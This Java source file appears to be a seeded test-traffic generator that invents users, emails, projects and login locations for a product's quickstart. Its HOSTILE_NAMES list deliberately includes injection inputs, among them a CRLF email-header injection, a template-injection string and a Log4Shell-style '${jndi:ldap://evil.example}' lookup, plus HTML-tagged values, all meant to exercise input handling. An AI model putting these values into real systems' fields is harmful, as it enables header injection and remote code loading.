package io.seqpulse.quickstart.traffic;

import java.util.List;
import java.util.Random;
import java.util.UUID;

/** Invents people, projects and ids; the same seed invents the same. Not thread-safe. */
final class People {

    private static final List<String> FIRST_NAMES =
            List.of(
                    "Nadia", "Nassir", "Élodie", "Björn", "Chloé", "Marcus", "Ying", "Tomás", "Zoë",
                    "Amara", "Łukasz", "Priya", "Oscar", "Fatima", "Hugo", "Maëlle", "Ivan",
                    "Saoirse", "Kenji", "Inès");
    private static final List<String> LAST_NAMES =
            List.of(
                    "Martin",
                    "Bernard",
                    "Nguyen",
                    "Kowalski",
                    "O'Brien",
                    "García",
                    "Schmidt",
                    "Rossi",
                    "Haddad",
                    "Lefèvre",
                    "Andersson",
                    "Tanaka",
                    "Diallo",
                    "Murphy");
    private static final List<String> PROJECTS =
            List.of(
                    "API Gateway",
                    "Checkout API",
                    "Billing",
                    "Search",
                    "Catalogue",
                    "Identité",
                    "Mobile BFF",
                    "Webhooks",
                    "Data Lake",
                    "Notifications",
                    "Facturation & Taxes",
                    "Ledger");

    /** What some people enter as their name. */
    private static final List<String> HOSTILE_NAMES =
            List.of(
                    "<b>Eve</b> & \"friends\"",
                    "Win at https://evil.example/prize now",
                    "Bob\r\nBcc: everyone@live.example",
                    "{{ 7 * 7 }} ${jndi:ldap://evil.example}",
                    "Wolfeschlegelsteinhausenbergerdorff".repeat(4));

    /** Where people are who have an account. */
    private static final List<Place> HOMES =
            List.of(
                    new Place("FR", "Lyon", "Firefox on Linux"),
                    new Place("FR", "Saint-Étienne", "Edge on Windows"),
                    new Place("DE", "Köln", "Chrome on macOS"),
                    new Place("CA", "Montréal", "Safari on iPhone"));

    /** Where they are not. */
    private static final List<Place> ELSEWHERE =
            List.of(
                    new Place("BR", "São Paulo", "Chrome on Android"),
                    new Place("VN", "Hà Nội", "Opera on Windows"),
                    new Place("ZA", "<b>Durban</b>", "curl/8.5 (https://evil.example)"),
                    new Place("NZ", null, "Safari on iPad"));

    private final Random random;
    private final String domain;
    private final String prefix;
    private int number;

    /**
     * @param domain of everybody's address
     * @param prefix of everybody's address, before a number
     */
    People(Random random, String domain, String prefix) {
        this.random = random;
        this.domain = domain;
        this.prefix = prefix;
    }

    /** A random UUID (version 4). */
    UUID id() {
        long most = (random.nextLong() & ~0xF000L) | 0x4000L;
        long least = (random.nextLong() & ~0xC000_0000_0000_0000L) | 0x8000_0000_0000_0000L;
        return new UUID(most, least);
    }

    Person person() {
        number++;
        String first = pick(FIRST_NAMES);
        String name = first + " " + pick(LAST_NAMES);
        boolean hostile = random.nextInt(12) == 0;
        String locale = pick(List.of("fr", "fr", "en", "en", "fr-CA"));
        return new Person(
                id(),
                hostile ? pick(HOSTILE_NAMES) : name,
                hostile || random.nextInt(4) == 0 ? null : first,
                "%s%s@%s".formatted(prefix, number, domain),
                random.nextInt(10) == 0 ? null : locale,
                random.nextInt(3) == 0 ? null : "Europe/Paris");
    }

    /** An address of somebody who is no user. */
    String address() {
        number++;
        return "%s%s.oncall@%s".formatted(prefix, number, domain);
    }

    /** An address of somebody who is invited. */
    String invitee() {
        number++;
        return "%s%s.invited@%s".formatted(prefix, number, domain);
    }

    /** Where somebody logs in from, always the same. */
    Place home(Person person) {
        return HOMES.get(Math.floorMod(person.id().hashCode(), HOMES.size()));
    }

    /** Where nobody is at home. */
    Place away() {
        return pick(ELSEWHERE);
    }

    String projectName() {
        return random.nextInt(25) == 0 ? pick(HOSTILE_NAMES) : pick(PROJECTS);
    }

    String branch() {
        return pick(List.of("main", "main", "main", "release/2026.11", "hotfix/login"));
    }

    String environment() {
        return pick(List.of("prod", "prod", "staging"));
    }

    boolean oneIn(int n) {
        return random.nextInt(n) == 0;
    }

    int below(int n) {
        return random.nextInt(n);
    }

    <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** Somebody with an account. Fields may be null where the product's columns may. */
    record Person(
            UUID id, String name, String firstName, String email, String locale, String timezone) {

        /** The same person, somewhere else. */
        Person in(String zone) {
            return new Person(id, name, firstName, email, locale, zone);
        }
    }

    /** Where a login comes from. Fields may be null where the product's columns may. */
    record Place(String country, String city, String device) {}
}
